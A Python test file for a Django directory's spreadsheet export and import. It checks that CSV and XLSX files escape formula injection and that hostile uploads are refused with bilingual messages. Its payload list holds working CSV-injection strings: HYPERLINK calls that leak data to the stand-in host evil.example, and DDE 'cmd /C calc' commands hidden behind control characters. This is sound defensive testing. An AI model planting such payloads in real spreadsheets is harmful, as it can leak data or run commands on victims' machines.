"""Spreadsheet formulas never survive an export or an import, however they are disguised:
control characters, leading spaces, tabs and invisible marks in front of the sign. Exported
files are opened back with ``csv`` and ``openpyxl``; hostile uploads are refused row by row."""

import csv
import io
import unicodedata

import openpyxl
import pytest
from django.utils import translation

from network import spreadsheets
from network.errors import ImportProblem
from network.imports import service
from network.models import Person
from tests.factories.network import PersonFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    '\x01=HYPERLINK("http://evil.example/?leak","x")',
    "\x08@SUM(9)",
    "\x1b+1+cmd|' /C calc'!A0",
    "\x7f=1+1",
    "\x9b-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(1)",
    "\u200f=1+1",
    "\ufeff=1+1",
    "\x02 \x03=1+1",
]
# What a spreadsheet would skip before reading a sign.
IGNORED_IN_FRONT = "".join(chr(code) for code in range(0x20) if code not in (0x09, 0x0A, 0x0D))


def runs_as_formula(text):
    """True if a spreadsheet would read ``text`` as a formula: its first character that is not
    a space, a control character or an invisible mark is a formula sign (or it starts with a
    tab or carriage return)."""
    if text[:1] in ("\t", "\r"):
        return True
    visible = text.lstrip().lstrip(IGNORED_IN_FRONT)
    while visible and (visible[0].isspace() or unicodedata.category(visible[0]) in ("Cc", "Cf")):
        visible = visible[1:]
    sign = visible[:1]
    return sign in ("=", "@") or (sign in ("+", "-") and not spreadsheets.NUMBER_LIKE.fullmatch(visible))


def has_control_characters(text):
    return any(unicodedata.category(char) == "Cc" and char not in "\t\n\r" for char in text)


@pytest.mark.parametrize("payload", HOSTILE + ["\x00=1+1"], ids=repr)
def test_every_disguise_is_escaped_after_control_characters_are_removed(payload):
    assert runs_as_formula(payload)
    escaped = spreadsheets.escape(payload)
    assert escaped.startswith("'")
    assert not runs_as_formula(escaped) and not has_control_characters(escaped)
    assert escaped[1:] == spreadsheets.normalise(payload)
    # What the export wrote is what the import reads back.
    assert spreadsheets.imported_text(escaped) == spreadsheets.normalise(payload).strip()


@pytest.mark.parametrize(
    "value", ["+964-770-1234", "+964 770 123 4567", "-", "-12.5", "Ahmed Waheed", "أحمد وحيد", "a = b", "x@y.org"]
)
def test_plain_text_and_phone_numbers_are_left_alone(value):
    assert spreadsheets.escape(value) == value
    assert spreadsheets.imported_text(value) == value


def test_csv_and_xlsx_writers_never_write_a_formula():
    headers = ["name", "phone", "count"]
    rows = [[payload, "+964-770-1234", 3] for payload in HOSTILE + ["\x00=1+1"]]
    read = list(csv.reader(io.StringIO(spreadsheets.to_csv(headers, rows).decode("utf-8-sig"), newline="")))
    assert read[0] == headers
    for written, payload in zip(read[1:], HOSTILE + ["\x00=1+1"], strict=True):
        assert written[0] == "'" + spreadsheets.normalise(payload)
        assert written[1] == "+964-770-1234"
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx(headers, rows))).active
    for cells, payload in zip(sheet.iter_rows(min_row=2), HOSTILE + ["\x00=1+1"], strict=True):
        name, phone, count = cells
        # XML reads a carriage return back as a line feed.
        assert (name.data_type, name.value) == ("s", "'" + spreadsheets.normalise(payload).replace("\r", "\n"))
        assert (phone.data_type, phone.value) == ("s", "+964-770-1234")
        assert (count.data_type, count.value) == ("n", 3)


@pytest.fixture
def staff(client, staff_user, settings, tmp_path):
    from wagtail.users.models import UserProfile

    settings.MEDIA_ROOT = tmp_path
    profile = UserProfile.get_for_user(staff_user)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(staff_user)
    return client


# PostgreSQL cannot store NUL in text, so the people saved here carry every payload but that one.
@pytest.mark.django_db
def test_directory_exports_escape_every_payload_in_every_text_column(staff):
    for number, payload in enumerate(HOSTILE):
        PersonFactory(
            name=f"{number:02d} {payload}" if number % 2 else payload,
            name_ar=payload,
            title=payload,
            bio=payload,
            phone="+964-770-1234",
            slug=f"person-{number:02d}",
        )
    response = staff.get("/admin/directory-tools/export/people/csv/")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    response = staff.get("/admin/directory-tools/export/people/xlsx/")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(cells) == len(HOSTILE) * sheet.max_column
    for value in [value for row in rows for value in row.values()] + [cell.value or "" for cell in cells]:
        assert not runs_as_formula(value), value
        assert not has_control_characters(value), value
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted("'" + spreadsheets.normalise(payload) for payload in HOSTILE)
    assert {row["phone"] for row in rows} == {"+964-770-1234"}
    assert {cell.value for cell in cells if cell.column == 5} == {"+964-770-1234"}


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_hostile_text_imports_back_as_the_same_text(staff, file_format):
    for number, payload in enumerate(HOSTILE):
        PersonFactory(title=payload, slug=f"person-{number:02d}")
    content = staff.get(f"/admin/directory-tools/export/people/{file_format}/").content
    service.apply("people", f"people.{file_format}", content)
    titles = dict(Person.objects.values_list("slug", "title"))
    assert titles == {
        f"person-{number:02d}": spreadsheets.normalise(payload).strip() for number, payload in enumerate(HOSTILE)
    }
    # Once stored without control characters, the text goes out and comes back unchanged.
    content = staff.get(f"/admin/directory-tools/export/people/{file_format}/").content
    report = service.preview("people", f"people.{file_format}", content)
    assert {row.status for row in report.rows} == {"skipped"}, [row.reasons for row in report.rows]


def csv_upload(title):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([["name", "title"], ["Ali Sami", title]])
    return buffer.getvalue().encode()


def xlsx_upload(title, formula_cell=False):
    """A workbook whose title cell is a string cell holding ``title`` (control characters written
    the way Excel writes them, "_x0001_"), or a real formula cell."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "title"])
    sheet.append(["Ali Sami", None])
    cell = sheet["B2"]
    if formula_cell:
        cell.value = title
        assert cell.data_type == "f"
    else:
        cell.value = "".join(
            f"_x{ord(char):04x}_" if unicodedata.category(char) == "Cc" and char not in "\t\n\r" else char
            for char in title
        )
        cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


UPLOADS = [("people.csv", csv_upload(payload)) for payload in HOSTILE] + [
    ("people.xlsx", xlsx_upload(payload)) for payload in HOSTILE
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content"), UPLOADS, ids=lambda value: value if isinstance(value, str) else "")
def test_hostile_cells_in_an_upload_are_refused_with_a_clear_message(name, content):
    with translation.override("en"):
        report = service.preview("people", name, content)
        (row,) = report.rows
        assert row.status == "error"
        assert "spreadsheet formula" in " ".join(row.reasons) and "type the value" in " ".join(row.reasons)
        with pytest.raises(ImportProblem) as problem:
            service.apply("people", name, content)
        assert problem.value.code == "row_errors"
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_formula_cells_in_a_workbook_are_refused_and_explained_in_arabic():
    content = xlsx_upload('=HYPERLINK("http://evil.example/?leak","x")', formula_cell=True)
    with translation.override("ar"):
        (row,) = service.preview("people", "people.xlsx", content).rows
    assert row.status == "error"
    assert "صيغة جدول بيانات" in " ".join(row.reasons)
    assert not Person.objects.exists()


@pytest.mark.django_db
def test_control_characters_in_an_upload_are_removed_before_saving():
    content = csv_upload("Trainer\x01\x1b") + b"Maya\x08 Sukkar,Officer\x7f\r\n"
    service.apply("people", "people.csv", content)
    assert sorted(Person.objects.values_list("name", "title")) == [("Ali Sami", "Trainer"), ("Maya Sukkar", "Officer")]


@pytest.mark.django_db
def test_nul_characters_in_an_upload_never_reach_the_database():
    with translation.override("en"), pytest.raises(ImportProblem) as problem:
        service.preview("people", "people.csv", csv_upload("\x00=1+1"))
    assert problem.value.code == "encoding"
    # Past the part of the file that is sniffed, a NUL is removed like any control character.
    padding = "".join(f"Person {number},Officer\r\n" for number in range(400)).encode()
    content = csv_upload("Trainer") + padding + b"Maya Sukkar,Tra\x00iner\r\n"
    assert content.index(b"\x00") > 4096
    service.apply("people", "people.csv", content)
    assert Person.objects.get(name="Maya Sukkar").title == "Trainer"
    content = csv_upload("Trainer") + padding + b"Hani Dawa,\x00=1+1\r\n"
    with translation.override("en"):
        report = service.preview("people", "people.csv", content)
    assert [row.status for row in report.rows if row.label == "Hani Dawa"] == ["error"]
